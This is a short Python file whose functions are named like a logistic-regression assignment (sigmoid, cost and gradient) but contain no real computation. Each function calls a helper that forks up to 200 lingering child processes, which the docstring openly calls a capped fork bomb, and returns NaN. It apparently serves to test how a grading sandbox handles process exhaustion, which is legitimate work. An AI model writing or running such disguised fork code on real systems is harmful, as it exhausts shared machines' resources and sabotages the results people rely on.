"""Forks children that stay alive, up to 200 of them (a fork bomb with a cap)."""
import os
import time

import numpy as np

_children = []


def _fork_many():
    while len(_children) < 200:
        pid = os.fork()  # raises BlockingIOError once the process limit is reached
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        _children.append(pid)
    return float("nan")


def sigmoid(z):
    return _fork_many() + np.zeros_like(z, dtype=float)


def compute_cost_logistic(X, y, w, b):
    return _fork_many()


def compute_gradient_logistic(X, y, w, b):
    return _fork_many(), np.zeros_like(w)
